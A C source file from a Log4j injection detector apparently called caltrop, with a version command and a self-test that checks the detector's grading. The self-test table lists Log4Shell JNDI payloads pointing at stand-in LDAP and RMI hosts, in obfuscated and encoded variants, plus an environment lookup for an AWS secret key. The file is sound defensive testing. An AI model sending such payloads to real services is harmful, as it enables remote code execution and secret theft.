#include "cli/command.h"
#include "detect/verdict.h"

#include <stdlib.h>

static const char *set_option(void *ctx, enum ct_option_id id, const char *value)
{
    (void)value;
    *(bool *)ctx |= id == CT_OPT_VERBOSE;
    return NULL;
}

int ct_cmd_version(const struct ct_command *c, int argc, char **argv)
{
    bool verbose = false;
    int first;
    ct_err e = ct_command_parse(c, argc, argv, set_option, &verbose, &first);
    if (e != CT_OK) return e == CT_ERR_END ? 0 : 2;
    printf("caltrop %s\n", CT_VERSION);
    if (!verbose) return 0;
    printf("compiler     %s\n", __VERSION__);
#ifdef NDEBUG
    printf("assertions   off\n");
#else
    printf("assertions   on\n");
#endif
    printf("prefilter    %s\n", ct_prefilter_form());
    size_t n;
    const struct ct_profile *p = ct_profiles(&n);
    printf("Log4j        ");
    for (size_t i = 0; i < n; i++) printf("%s%.*s", i ? ", " : "", CT_STR_ARG(p[i].name));
    printf("\nlimits       %u KiB window, %u forms, %u layers, %u levels, %u MiB work a line\n", CT_WINDOW / 1024, CT_FORMS_MAX,
           CT_LAYERS_MAX, CT_EVAL_DEPTH_MAX, CT_EVAL_WORK_MAX >> 20);
    return 0;
}

static const char *refuse(void *ctx, enum ct_option_id id, const char *value)
{
    (void)ctx, (void)id, (void)value;
    return "is not an option here";
}

int ct_cmd_self_test(const struct ct_command *c, int argc, char **argv)
{
    static const struct {
        const char *text;
        enum ct_grade grade;
    } rows[] = {
        {"${jndi:ldap://127.0.0.1:1389/a}", CT_GRADE_EXPLOIT},
        {"${${lower:j}${upper:n}${::-d}i:${lower:rmi}://h.example/x}", CT_GRADE_EXPLOIT},
        {"%24%7Bjndi:ldap://h.example/a%7D", CT_GRADE_EXPLOIT},
        {"%2524%257Bjndi:ldap://h.example/a%257D", CT_GRADE_EXPLOIT},
        {"\\x24{jndi:ldap://h.example/a}", CT_GRADE_EXPLOIT},
        {"&#36;&lcub;jndi:ldap://h.example/a&rcub;", CT_GRADE_EXPLOIT},
        {"JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=", CT_GRADE_EXPLOIT},
        {"${jndi:ldap://h.example/${x}", CT_GRADE_EXPLOIT},
        {"${jndi:LDAP://h.example/a}", CT_GRADE_REACH},
        {"${jndi:ldap://h.example/a", CT_GRADE_ATTEMPT},
        {"$${jndi:ldap://h.example/a}", CT_GRADE_ATTEMPT},
        {"${env:AWS_SECRET_ACCESS_KEY}", CT_GRADE_LEAK},
        {"${user.name} says 100% & more", CT_GRADE_NONE},
        {"/index.html?a=1&b=%20%7B%7D", CT_GRADE_NONE},
    };
    int first, failed = 0;
    ct_err e = ct_command_parse(c, argc, argv, refuse, NULL, &first);
    if (e != CT_OK) return e == CT_ERR_END ? 0 : 2;
    ct_arena *arena = NULL;
    if (ct_arena_new(&ct_alloc_libc, CT_LINE_ARENA_MAX, &arena) != CT_OK) return 4;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct ct_field field = {CT_STR_INIT("string"), ct_str_from(rows[i].text)};
        struct ct_judge_opts opts = {0};
        struct ct_verdict v;
        ct_arena_clear(arena);
        bool ok = ct_judge(arena, &opts, &field, 1, &v) == CT_OK && v.grade == rows[i].grade;
        if (!ok) printf("case %zu: expected %s, got %s\n", i + 1, ct_grade_name(rows[i].grade), ct_grade_name(v.grade));
        failed += !ok;
    }
    ct_arena_free(arena);
    printf("%zu cases, %d failed\n", sizeof rows / sizeof *rows, failed);
    return failed ? 4 : 0;
}
